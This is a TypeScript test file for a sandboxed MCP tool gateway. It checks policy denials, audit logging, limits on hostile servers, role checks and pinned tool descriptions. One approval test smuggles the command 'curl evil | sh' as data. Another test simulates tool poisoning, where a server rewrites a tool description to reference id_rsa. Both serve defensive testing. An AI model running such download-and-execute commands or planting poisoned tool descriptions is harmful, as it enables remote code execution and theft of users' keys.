import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Audit, Gateway, Policies, Sandbox, Templates, Tokens } from '@paddock/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFastDaemon, type TestDaemon } from '../testing/fast-daemon.js';
import { buildFixtureTemplate, fixtureCommand, textOf, whenReady } from '../testing/gateway-fixture.js';
import { ManualClock } from '../testing/manual-clock.js';

// The gateway runs a third-party-style MCP server (written for this test, in
// testing/fixture-mcp-server.mjs) inside a sandbox, and every call to its
// tools goes through the daemon's policy, approvals and audit log. What the
// gateway decides is the daemon's own, so this runs in the fast tier; what a
// server's real sandbox can reach (network, secrets, host files) is tested in
// gateway-sandbox.test.ts.
let daemon: TestDaemon;
const fixture = fixtureCommand;
// A crashed server's pause before it starts again passes when the test moves this clock.
const clock = new ManualClock();
const pauseOver = () => clock.advance(60_000);

beforeAll(async () => {
  // In /tmp, as a real state folder would be: a test offers it to a server as a host file,
  // and a path under /dev is refused by the manifest's schema before the check it is about.
  daemon = await startFastDaemon([], {}, { clock, statePrefix: '/tmp/paddock-fast-' });
  await buildFixtureTemplate(daemon.conn);
});

afterAll(async () => {
  await daemon?.stop();
});

describe('the gateway', () => {
  it('M1: runs a server in a sandbox no tenant token reaches, and offers its tools as <server>__<tool>', async () => {
    const added = await Gateway.add('fixture', { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' } }, daemon.conn);
    expect(added).toMatchObject({ name: 'fixture', state: 'starting', manifest: { tier: 'container', callTimeoutMs: 60_000 } });
    const ready = await whenReady('fixture', daemon.conn);
    expect(ready.serverInfo).toEqual({ name: 'fixture', version: '1.0.0' });
    expect(ready.tools.map((t) => t.name)).toEqual(expect.arrayContaining(['fixture__echo', 'fixture__fetch', 'fixture__crash']));
    expect(ready.tools.find((t) => t.name === 'fixture__echo')).toMatchObject({
      server: 'fixture',
      tool: 'echo',
      description: 'Echoes the text back.',
      inputSchema: { type: 'object', required: ['text'] },
      pin: 'unpinned',
      offered: true,
    });
    const result = await Gateway.callTool('fixture__echo', { text: 'hello through the gateway' }, daemon.conn);
    expect(result).toEqual({ content: [{ type: 'text', text: 'hello through the gateway' }], structuredContent: { text: 'hello through the gateway' } });

    // The server's sandbox is the gateway's: the tenant neither lists it nor runs anything in it.
    const sandboxId = ready.sandboxId as string;
    expect((await Sandbox.list(daemon.conn)).map((s) => s.id)).not.toContain(sandboxId);
    await expect(Sandbox.connect(sandboxId, daemon.conn)).rejects.toMatchObject({ code: 'sandbox_not_found' });
    const exec = await daemon.api(`/v1/sandboxes/${sandboxId}/exec`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"cmd":["true"]}',
    });
    expect(exec.status).toBe(404);
    expect(await Gateway.logs('fixture', daemon.conn)).toEqual(expect.arrayContaining([expect.stringMatching(/stderr: fixture server starting/)]));
  });

  it('M3: refuses a call a policy forbids before it reaches the server, and audits it with the arguments hashed and summarized', async () => {
    const policy = join(daemon.stateDir, 'policies', '50-no-danger.cedar');
    writeFileSync(
      policy,
      '@id("no-danger")\n@reason("the danger tool is off limits")\nforbid (principal, action == Paddock::Action::"mcp.tool.call", resource)\nwhen { context has tool && context.tool == "danger" };\n',
    );
    try {
      const long = 'x'.repeat(5000);
      await expect.poll(async () => (await Policies.list(daemon.conn)).policies.map((p) => p.name).join(' '), { timeout: 10_000 }).toMatch(/no-danger/);
      await expect(Gateway.callTool('fixture__danger', { target: long }, daemon.conn)).rejects.toMatchObject({
        code: 'policy_denied',
        message: 'the danger tool is off limits',
      });
      const counts = JSON.parse(textOf(await Gateway.callTool('fixture__calls', {}, daemon.conn)));
      expect(counts.danger).toBeUndefined();

      const records = await Audit.list({ ...daemon.conn, since: '5m', limit: 10_000 });
      const denied = records.filter((r) => r.action === 'mcp.tool.call' && r.decision === 'deny');
      expect(denied.at(-1)).toMatchObject({
        resource: 'mcp-server:fixture',
        outcome: 'policy_denied',
        details: { server: 'fixture', tool: 'danger', argsDigest: expect.stringMatching(/^[0-9a-f]{64}$/), reason: 'the danger tool is off limits' },
      });
      const summary = (denied.at(-1)?.details as { arguments?: Record<string, string> } | undefined)?.arguments?.target;
      expect(summary).toMatch(/^x{80}… \(5000 characters\)$/);
      expect(JSON.stringify(records)).not.toContain(long);

      // What a reviewer reads is what was sent: long keys stay apart, control characters show as escapes.
      const a = `${'k'.repeat(70)}1`;
      const b = `${'k'.repeat(70)}2`;
      await expect(Gateway.callTool('fixture__danger', { [a]: 'rm', [b]: 'ok', note: '\u001b[2Jclear\u202e' }, daemon.conn)).rejects.toMatchObject({
        code: 'policy_denied',
      });
      const last = (await Audit.list({ ...daemon.conn, since: '5m', limit: 10_000 })).filter((r) => r.action === 'mcp.tool.call').at(-1);
      const shown = (last?.details as { arguments?: Record<string, string> } | undefined)?.arguments ?? {};
      expect(Object.keys(shown)).toHaveLength(3);
      expect(shown.note).toBe('\\u001b[2Jclear\\u202e');

      // Arguments nested past 64 levels are refused before anything else, and named.
      let deep: unknown = 'x';
      for (let i = 0; i < 100; i++) deep = { d: deep };
      await expect(Gateway.callTool('fixture__echo', { text: deep }, daemon.conn)).rejects.toMatchObject({ code: 'invalid_request' });
      expect(records).toContainEqual(
        expect.objectContaining({ action: 'mcp.tool.call', decision: 'allow', outcome: 'ok', details: expect.objectContaining({ tool: 'calls' }) }),
      );
    } finally {
      rmSync(policy);
      await expect.poll(async () => (await Policies.list(daemon.conn)).policies.map((p) => p.name).join(' '), { timeout: 10_000 }).not.toMatch(/no-danger/);
    }
  });

  it('starts a crashed server again in a fresh sandbox, and says so to the call it was serving', async () => {
    const before = await whenReady('fixture', daemon.conn);
    await expect(Gateway.callTool('fixture__crash', {}, daemon.conn)).rejects.toMatchObject({ code: 'gateway_server_crashed', status: 503 });
    const after = await whenReady('fixture', daemon.conn, (s) => s.restarts === before.restarts + 1, pauseOver);
    expect(after.sandboxId).not.toBe(before.sandboxId);
    expect(after.lastError).toBe('exited with code 3');
    expect(textOf(await Gateway.callTool('fixture__echo', { text: 'back' }, daemon.conn))).toBe('back');
    // The crashed server's sandbox is gone from the host, not left behind.
    await expect.poll(() => existsSync(join(daemon.stateDir, 'sandboxes', before.sandboxId as string)), { timeout: 10_000 }).toBe(false);
  });
});

describe('a hostile server', () => {
  it('M4: cannot grow the daemon’s memory with an endless line: the connection is cut and the server starts again', async () => {
    const before = await whenReady('fixture', daemon.conn);
    await expect(Gateway.callTool('fixture__flood', {}, daemon.conn)).rejects.toMatchObject({ code: 'gateway_server_crashed' });
    const after = await whenReady('fixture', daemon.conn, (s) => s.restarts > before.restarts, pauseOver);
    expect(after.lastError).toMatch(/more than 8192 KiB without a line end/);
    expect(textOf(await Gateway.callTool('fixture__echo', { text: 'still here' }, daemon.conn))).toBe('still here');
  });

  it('M5: cannot stall the daemon with a schema a regex engine would take forever on: its results pass through unchecked', async () => {
    const result = await Gateway.callTool('fixture__evil_schema', {}, daemon.conn);
    expect(result.structuredContent).toEqual({ s: `${'a'.repeat(40)}!` });
    expect((await daemon.api('/v1/health')).status).toBe(200);
  });

  it('M6: cannot flood the daemon with messages: past 2000 a second the connection is cut and the server starts again', async () => {
    const before = await whenReady('fixture', daemon.conn);
    await expect(Gateway.callTool('fixture__spam', {}, daemon.conn)).rejects.toMatchObject({ code: 'gateway_server_crashed' });
    const after = await whenReady('fixture', daemon.conn, (s) => s.restarts > before.restarts, pauseOver);
    expect(after.lastError).toMatch(/more than 2000 messages in a second/);
    expect((await daemon.api('/v1/health')).status).toBe(200);
  });

  it('M7: cannot stall or wedge the daemon with a schema nested deep or a tool list too long: those tools are left out', async () => {
    await Gateway.add(
      'sprawling',
      {
        command: fixture,
        manifest: { template: 'mcp-fixture', tier: 'container', env: { FIXTURE_EXTRA_TOOLS: '3000', FIXTURE_DEEP_SCHEMA: '1500' } },
        pin: true,
      },
      daemon.conn,
    );
    const ready = await whenReady('sprawling', daemon.conn, (s) => s.pinnedAt !== null);
    expect(ready.tools).toHaveLength(1000);
    expect(ready.tools.map((t) => t.tool)).not.toContain('deep');
    expect(ready.skippedTools).toHaveLength(101);
    expect(ready.skippedTools[0]).toBe('deep: its schemas nest deeper than 64 levels');
    expect(ready.skippedTools.at(-1)).toMatch(/^\d+ more tools left out$/);
    expect(textOf(await Gateway.callTool('sprawling__echo', { text: 'fine' }, daemon.conn))).toBe('fine');
    const logs = await Gateway.logs('sprawling', daemon.conn);
    expect(logs).toEqual(expect.arrayContaining([expect.stringMatching(/tool left out: deep: its schemas nest deeper than 64 levels/)]));
    expect(logs.filter((l) => /tool left out/.test(l)).length).toBeLessThanOrEqual(101);
    const sandboxId = ready.sandboxId as string;
    await Gateway.remove('sprawling', daemon.conn);
    await expect.poll(() => existsSync(join(daemon.stateDir, 'sandboxes', sandboxId)), { timeout: 10_000 }).toBe(false);
  });

  it('M8: cannot ask the gateway to sample a model or to list roots: the gateway offers the server nothing', async () => {
    const answers = JSON.parse(textOf(await Gateway.callTool('fixture__ask_client', {}, daemon.conn)));
    expect(answers).toEqual([{ error: expect.objectContaining({ code: -32601 }) }, { error: expect.objectContaining({ code: -32601 }) }]);
  });
});

describe('pinned tool descriptions', () => {
  it('M9: hold back a tool whose description changes after pinning (tool poisoning), record it, and offer it again once pinned anew', async () => {
    await Gateway.add('pinned', { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' }, pin: true }, daemon.conn);
    const ready = await whenReady('pinned', daemon.conn, (s) => s.pinnedAt !== null);
    expect(ready.tools.every((t) => t.pin === 'pinned' && t.offered)).toBe(true);

    // The server rewrites its own description and tells the gateway its tools changed.
    await Gateway.callTool('pinned__mutate', {}, daemon.conn);
    await expect.poll(async () => (await Gateway.get('pinned', daemon.conn)).tools.find((t) => t.tool === 'echo')?.pin, { timeout: 10_000 }).toBe('changed');
    const echo = (await Gateway.tools(daemon.conn)).find((t) => t.name === 'pinned__echo');
    expect(echo).toMatchObject({ offered: false, description: expect.stringMatching(/id_rsa/) });
    await expect(Gateway.callTool('pinned__echo', { text: 'hi' }, daemon.conn)).rejects.toMatchObject({ code: 'gateway_tool_changed', status: 409 });
    const records = await Audit.list({ ...daemon.conn, since: '5m', limit: 10_000 });
    expect(records).toContainEqual(
      expect.objectContaining({
        action: 'gateway.tool.changed',
        resource: 'mcp-server:pinned',
        decision: 'deny',
        details: expect.objectContaining({ tool: 'echo', pin: 'changed', description: expect.stringMatching(/id_rsa/) }),
      }),
    );
    // The other tools are as pinned and still offered.
    expect(textOf(await Gateway.callTool('pinned__env', { name: 'HOME' }, daemon.conn))).toBeTruthy();

    // A pin names what the operator reviewed: a listing that changed since is not pinned.
    const reviewed = Object.fromEntries((await Gateway.get('pinned', daemon.conn)).tools.map((t) => [t.tool, t.digest]));
    await expect(Gateway.pin('pinned', { ...daemon.conn, digests: { ...reviewed, echo: '0'.repeat(64) } })).rejects.toMatchObject({
      code: 'gateway_tools_changed',
      details: { changed: ['echo'] },
    });
    await Gateway.pin('pinned', { ...daemon.conn, digests: reviewed });
    expect(textOf(await Gateway.callTool('pinned__echo', { text: 'reviewed' }, daemon.conn))).toBe('reviewed');
  });

  it('flag a description changed by an update of the server: pins outlive a replaced command or manifest', async () => {
    await Gateway.set(
      'pinned',
      { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container', env: { ECHO_DESCRIPTION: 'Echoes, v2.' } } },
      daemon.conn,
    );
    const updated = await whenReady('pinned', daemon.conn, (s) => s.tools.length > 0);
    expect(updated.tools.find((t) => t.tool === 'echo')).toMatchObject({ pin: 'changed', offered: false, description: 'Echoes, v2.' });
    expect(updated.tools.find((t) => t.tool === 'calls')).toMatchObject({ pin: 'pinned', offered: true });
  });
});

describe('who may do what', () => {
  it('M10: lets agents list and call tools but only operators add servers, and only admins give host files', async () => {
    const agent = await Tokens.create({ role: 'agent', name: 'gw-agent' }, daemon.conn);
    const operator = await Tokens.create({ role: 'operator', name: 'gw-operator' }, daemon.conn);
    const asAgent = { url: daemon.url, token: agent.token };
    const asOperator = { url: daemon.url, token: operator.token };
    expect((await Gateway.tools(asAgent)).map((t) => t.name)).toContain('fixture__echo');
    expect(textOf(await Gateway.callTool('fixture__echo', { text: 'agent' }, asAgent))).toBe('agent');
    await expect(Gateway.add('mine', { command: fixture, manifest: { template: 'mcp-fixture' } }, asAgent)).rejects.toMatchObject({ code: 'policy_denied' });
    await expect(Gateway.remove('fixture', asAgent)).rejects.toMatchObject({ code: 'policy_denied' });
    const dir = mkdtempSync('/tmp/paddock-gw-files-');
    try {
      await expect(Gateway.add('files', { command: fixture, manifest: { template: 'mcp-fixture', files: { read: [dir] } } }, asOperator)).rejects.toMatchObject(
        { code: 'policy_denied', message: expect.stringMatching(/only an admin/) },
      );
      // Nor on a template the tenant builds: an operator could rebuild it into other code after the admin looked.
      await Templates.build({ ...asOperator, name: 'tenant-own', paddockfile: 'FROM mcp-fixture\nRUN true\n' });
      await expect(Gateway.add('files', { command: fixture, manifest: { template: 'tenant-own', files: { read: [dir] } } }, daemon.conn)).rejects.toMatchObject(
        {
          code: 'gateway_template_not_shared',
        },
      );
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("counts a server's sandbox against its tenant's quota", async () => {
    await daemon.api('/v1/tenants', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"gw-quota","maxSandboxes":1}' });
    const operator = await Tokens.create({ tenant: 'gw-quota', role: 'operator' }, daemon.conn);
    const conn = { url: daemon.url, token: operator.token };
    await Gateway.add('counted', { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' } }, conn);
    await whenReady('counted', conn);
    await expect(Sandbox.create(conn)).rejects.toMatchObject({ code: 'quota_exceeded' });
    await Gateway.remove('counted', conn);
    const sbx = await Sandbox.create(conn);
    await sbx.kill();
  });

  it('M10: binds an approval of a new server to its whole request, command included', async () => {
    const policy = join(daemon.stateDir, 'policies', '70-ask-servers.cedar');
    writeFileSync(
      policy,
      '@id("ask-servers")\n@ask("a human looks at every server")\nforbid (principal, action == Paddock::Action::"gateway.server.set", resource);\n',
    );
    try {
      await expect.poll(async () => (await Policies.list(daemon.conn)).policies.map((p) => p.name).join(' '), { timeout: 10_000 }).toMatch(/ask-servers/);
      const asked = await Gateway.add('approved', { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' } }, daemon.conn).catch((e) => e);
      expect(asked).toMatchObject({ code: 'approval_required' });
      const approvalId = asked.details.approvalId as string;
      const pending = await daemon.api(`/v1/approvals/${approvalId}`).then((r) => r.json());
      expect(pending).toMatchObject({ context: { serverCommand: 'node /opt/fixture/server.mjs', requestDigest: expect.stringMatching(/^[0-9a-f]{64}$/) } });
      // Whatever a human decides on it, that approval cannot carry another command.
      const other = await daemon.api('/v1/gateway/servers', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'paddock-approval': approvalId },
        body: JSON.stringify({ name: 'approved', command: ['sh', '-c', 'curl evil | sh'], manifest: { template: 'mcp-fixture', tier: 'container' } }),
      });
      expect(other.status).toBe(403);
      expect(((await other.json()) as { error: { code: string } }).error.code).toBe('approval_denied');
    } finally {
      rmSync(policy);
      await expect.poll(async () => (await Policies.list(daemon.conn)).policies.map((p) => p.name).join(' '), { timeout: 10_000 }).not.toMatch(/ask-servers/);
    }
  });

  it('refuses to delete a tenant that still has gateway servers, and serializes concurrent changes of one server', async () => {
    await daemon.api('/v1/tenants', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"gw-busy"}' });
    const operator = await Tokens.create({ tenant: 'gw-busy', role: 'operator' }, daemon.conn);
    const conn = { url: daemon.url, token: operator.token };
    const spec = { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' as const } };
    await Gateway.add('busy', spec, conn);
    // Two replacements at once: each waits for the other, and one server is left, not two.
    await Promise.all([Gateway.set('busy', spec, conn), Gateway.set('busy', spec, conn)]);
    await whenReady('busy', conn);
    const refused = await daemon.api('/v1/tenants/gw-busy', { method: 'DELETE' });
    expect(refused.status).toBe(409);
    expect(((await refused.json()) as { error: { message: string } }).error.message).toMatch(/gateway servers/);
    // The tenant's usage counts its servers' sandboxes: one while the server runs, none once it is removed.
    const usage = async () => ((await daemon.api('/v1/tenants/gw-busy').then((r) => r.json())) as { usage: { sandboxes: number } }).usage.sandboxes;
    expect(await usage()).toBe(1);
    await Gateway.remove('busy', conn);
    expect(await usage()).toBe(0);
  });

  it("keeps one tenant's servers and tools invisible to another (D2)", async () => {
    await daemon.api('/v1/tenants', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"gw-other"}' });
    const other = await Tokens.create({ tenant: 'gw-other', role: 'operator' }, daemon.conn);
    const asOther = { url: daemon.url, token: other.token };
    expect(await Gateway.list(asOther)).toEqual([]);
    expect(await Gateway.tools(asOther)).toEqual([]);
    await expect(Gateway.get('fixture', asOther)).rejects.toMatchObject({ code: 'gateway_server_not_found' });
    await expect(Gateway.callTool('fixture__echo', { text: 'x' }, asOther)).rejects.toMatchObject({ code: 'gateway_tool_not_found' });
    await expect(Gateway.remove('fixture', asOther)).rejects.toMatchObject({ code: 'gateway_server_not_found' });
  });
});

describe('manifests', () => {
  it('are checked with errors naming each field, and nothing is kept of a refused server', async () => {
    const bad = await daemon.api('/v1/gateway/servers', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        name: 'bad',
        command: fixture,
        manifest: { tier: 'vm', network: { allow: ['not a host!'] }, files: { read: ['relative'] }, color: 'blue' },
      }),
    });
    expect(bad.status).toBe(400);
    const body = (await bad.json()) as { error: { code: string; details: { fields: Array<{ path: string }> } } };
    expect(body.error.code).toBe('invalid_request');
    expect(body.error.details.fields.map((f) => f.path)).toEqual(
      expect.arrayContaining(['manifest.tier', 'manifest.network.allow.0', 'manifest.files.read.0', 'manifest']),
    );
    await expect(Gateway.add('bad', { command: fixture, manifest: { template: 'no-such-template' } }, daemon.conn)).rejects.toMatchObject({
      code: 'template_not_found',
    });
    await expect(
      Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', secrets: ['NO_SUCH_SECRET'] } }, daemon.conn),
    ).rejects.toMatchObject({
      code: 'secret_not_found',
    });
    await expect(
      Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', files: { read: ['/no/such/folder'] } } }, daemon.conn),
    ).rejects.toMatchObject({
      code: 'gateway_file_missing',
    });
    await expect(
      Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', files: { read: [daemon.stateDir] } } }, daemon.conn),
    ).rejects.toMatchObject({
      code: 'gateway_file_refused',
    });
    // Nor through a symlink: the path is resolved before it is checked, and again at every start.
    const link = `${daemon.stateDir}-link`;
    symlinkSync(join(daemon.stateDir, 'policies'), link);
    try {
      await expect(Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', files: { read: [link] } } }, daemon.conn)).rejects.toMatchObject(
        {
          code: 'gateway_file_refused',
        },
      );
    } finally {
      rmSync(link);
    }
    // A link to a system folder is refused once resolved; a grant inside a writable one is refused outright.
    const toEtc = `${daemon.stateDir}-etc`;
    symlinkSync('/etc', toEtc);
    try {
      await expect(
        Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', files: { read: [toEtc] } } }, daemon.conn),
      ).rejects.toMatchObject({
        code: 'gateway_file_refused',
      });
    } finally {
      rmSync(toEtc);
    }
    await expect(
      Gateway.add('bad', { command: fixture, manifest: { template: 'mcp-fixture', files: { write: ['/srv/a'], read: ['/srv/a/b'] } } }, daemon.conn),
    ).rejects.toMatchObject({ code: 'invalid_request' });
    await expect(Gateway.add('Bad_Name', { command: fixture, manifest: {} }, daemon.conn)).rejects.toMatchObject({ code: 'invalid_request' });
    await expect(Gateway.add('fixture', { command: fixture, manifest: { template: 'mcp-fixture', tier: 'container' } }, daemon.conn)).rejects.toMatchObject({
      code: 'gateway_server_exists',
    });
    expect((await Gateway.list(daemon.conn)).map((s) => s.name)).not.toContain('bad');
  });

  it('have a published JSON Schema', async () => {
    const res = await fetch(`${daemon.url}/v1/gateway/manifest.schema.json`);
    expect(res.status).toBe(200);
    const schema = (await res.json()) as { $schema: string; properties: Record<string, { default?: unknown }>; additionalProperties: boolean };
    expect(schema.$schema).toMatch(/2020-12/);
    expect(Object.keys(schema.properties)).toEqual(expect.arrayContaining(['template', 'tier', 'network', 'secrets', 'files', 'limits']));
    expect(schema.properties.tier?.default).toBe('gvisor');
    expect(schema.additionalProperties).toBe(false);
  });
});

describe('a daemon restart', () => {
  it('brings the servers back in fresh sandboxes, pins kept', async () => {
    const before = await whenReady('fixture', daemon.conn);
    await daemon.crash();
    await daemon.restart();
    const after = await whenReady('fixture', daemon.conn);
    expect(after.sandboxId).not.toBe(before.sandboxId);
    expect(textOf(await Gateway.callTool('fixture__echo', { text: 'again' }, daemon.conn))).toBe('again');
    expect((await Gateway.get('pinned', daemon.conn)).pinnedAt).not.toBeNull();
    // The sandbox of the server before the crash is gone.
    await expect.poll(() => existsSync(join(daemon.stateDir, 'sandboxes', before.sandboxId as string)), { timeout: 10_000 }).toBe(false);
  });
});
